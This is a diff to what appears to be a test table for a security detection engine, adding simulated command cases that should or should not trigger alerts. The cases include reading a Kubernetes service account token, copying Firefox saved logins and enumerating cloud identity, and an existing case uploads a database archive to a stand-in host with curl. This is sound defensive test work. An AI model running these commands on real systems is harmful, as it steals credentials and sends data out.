@@ -317,6 +317,32 @@ const CASES: Case[] = [
     steps: (p) => one(exec(p, "usermod", ["usermod", "-e", "2030-01-01", "bob"])),
   },
   {
+    name: "service account token read",
+    fires: "credential-access-kubernetes-service-account-token",
+    steps: (p) =>
+      one(exec(p, "cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])),
+  },
+  {
+    name: "service account namespace read",
+    steps: (p) =>
+      one(exec(p, "cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/namespace"])),
+  },
+  {
+    name: "Firefox logins copied",
+    fires: "credential-access-browser-credential-store-access",
+    steps: (p) => one(exec(p, "cp", ["cp", "/home/u/.mozilla/firefox/x.default/logins.json", "."])),
+  },
+  {
+    name: "Firefox preferences copied",
+    steps: (p) => one(exec(p, "cp", ["cp", "/home/u/.mozilla/firefox/x.default/prefs.js", "."])),
+  },
+  {
+    name: "aws sts get-caller-identity",
+    fires: "discovery-cloud-identity-enumeration",
+    steps: (p) => one(exec(p, "aws", ["aws", "sts", "get-caller-identity"])),
+  },
+  { name: "aws s3 ls", steps: (p) => one(exec(p, "aws", ["aws", "s3", "ls"])) },
+  {
     name: "curl -T",
     fires: "exfiltration-curl-wget-file-upload",
     steps: (p) => one(exec(p, "curl", ["curl", "-T", "db.tgz", "https://drop.example/"])),
